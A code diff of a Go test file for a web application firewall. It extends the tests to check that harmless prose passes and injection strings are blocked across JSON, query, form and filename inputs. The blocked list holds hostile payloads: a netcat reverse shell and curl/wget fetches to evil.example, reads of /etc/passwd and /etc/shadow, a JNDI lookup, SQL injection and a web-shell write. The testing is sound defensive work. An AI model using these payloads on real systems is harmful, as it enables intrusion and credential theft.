@@ -137,9 +137,9 @@ func TestAttackCorpus(t *testing.T) {
 	if len(reqs) < 200 {
 		t.Fatalf("%d attack requests, want at least 200", len(reqs))
 	}
-	without := Config{WAF: shippedWAF(t), crsJSONTargets: true}
-	// CRS PL1 as it ran before decagon's rules: none of api-rules.conf, and JSON values not
-	// taken out of CRS's command-word rules (jsonTargets).
+	without := Config{WAF: shippedWAF(t), crsValueTargets: true}
+	// CRS PL1 as it ran before decagon's rules: none of api-rules.conf, and argument values not
+	// taken out of CRS's command-word rules (valueTargets).
 	without.Exclusions = append(without.Exclusions, topology.Exclusion{IDs: ownRuleIDs, Reason: "measure CRS alone"})
 	rate := func(cfg Config) (float64, map[string][2]int) {
 		s := newStack(t, cfg)
@@ -194,11 +194,21 @@ func TestKnownFalsePositives(t *testing.T) {
 	}
 }
 
-// TestJSONProse: prose and code snippets that CRS's command-word, code-name and UNION...SELECT
-// rules refuse elsewhere pass as JSON values, which jsonTargets (rules.go) takes out of those
-// rules; an attack in the same place is still refused by the rules that replace them.
-func TestJSONProse(t *testing.T) {
+// TestProseInValues: prose and code snippets that CRS's command-word, code-name and
+// UNION...SELECT rules refuse pass as argument values (a JSON value, a query parameter, a form
+// field), which valueTargets (rules.go) takes out of those rules; an attack in the same places
+// is still refused by the rules that replace them.
+func TestProseInValues(t *testing.T) {
 	s := newStack(t, Config{WAF: shippedWAF(t)})
+	shapes := func(v string) []request {
+		return []request{
+			{method: "POST", target: "/test", contentType: "application/json", body: `{"name":"x","data":{"note":` + jsonString(v) + `}}`},
+			{target: "/test?q=" + url.QueryEscape(v)},
+			{method: "POST", target: "/upload?filename=" + url.QueryEscape(v), contentType: "application/octet-stream", body: "plain bytes"},
+			{method: "POST", target: "/test", contentType: "application/x-www-form-urlencoded", body: "note=" + url.QueryEscape(v)},
+		}
+	}
+	n := 0
 	for _, text := range []string{
 		"In bash, use ls -la | grep foo to filter", "cat file.txt | wc -l counts the lines",
 		"The shell script printed /usr/bin/env python3", "Files live under /etc/app/config.yaml on the server",
@@ -208,18 +218,26 @@ func TestJSONProse(t *testing.T) {
 		`return res.status(404).json({ error: "not found" });`, `document.getElementById("app").innerHTML = html;`,
 		"The regex ^[a-z0-9_-]{3,16}$ validates usernames", `import os; os.getenv("HOME")`, "The union will select its leaders",
 		"Union members will select a new chair", "const x = arr.map(v => v * 2);", "Hello {{ user.name }}, welcome back",
+		"sudo apt-get install -y postgresql", "echo $PATH", "ls -la /var/log", "docker run -p 8080:80 nginx",
 	} {
-		rq := request{method: "POST", target: "/test", contentType: "application/json", body: `{"name":` + jsonString(text) + `,"data":{"note":` + jsonString(text) + `}}`}
-		if rec := s.do(t, rq); rec.Code != http.StatusOK {
-			recs := s.logs.records(t)
-			t.Errorf("%q: status %d: %v", text, rec.Code, recs[len(recs)-1]["reason"])
+		for i, rq := range shapes(text) {
+			n++
+			rq.remote = fmt.Sprintf("198.51.100.%d:1", n%250)
+			if rec := s.do(t, rq); rec.Code != http.StatusOK {
+				recs := s.logs.records(t)
+				t.Errorf("%q in shape %d: status %d: %v", text, i, rec.Code, recs[len(recs)-1]["reason"])
+			}
 		}
 	}
 	for _, attack := range []string{"; cat /etc/passwd", "| nc -e /bin/sh evil.example 4444", "$(curl http://evil.example/x)", "`id`", "../../../etc/shadow", "&& wget http://evil.example/a -O /tmp/a",
-		"system('id')", "eval(atob('YWxlcnQoMSk='))", "1 UNION SELECT password FROM users", "${jndi:ldap://evil.example/a}", "{{7*7}}"} {
-		rq := request{method: "POST", target: "/test", contentType: "application/json", body: `{"name":"x","data":{"note":` + jsonString(attack) + `}}`}
-		if rec := s.do(t, rq); rec.Code != http.StatusForbidden {
-			t.Errorf("%q in JSON: status %d, want 403", attack, rec.Code)
+		"system('id')", "eval(atob('YWxlcnQoMSk='))", "1 UNION SELECT password FROM users", "${jndi:ldap://evil.example/a}", "{{7*7}}",
+		";echo${IFS}pwned", ";id>/tmp/x", ";echo PD9waHA= | base64 -d > /var/www/x.php", ";chmod +x /tmp/x; /tmp/x", "a|net user"} {
+		for i, rq := range shapes(attack) {
+			n++
+			rq.remote = fmt.Sprintf("203.0.113.%d:1", n%250)
+			if rec := s.do(t, rq); rec.Code != http.StatusForbidden {
+				t.Errorf("%q in shape %d: status %d, want 403", attack, i, rec.Code)
+			}
 		}
 	}
 }
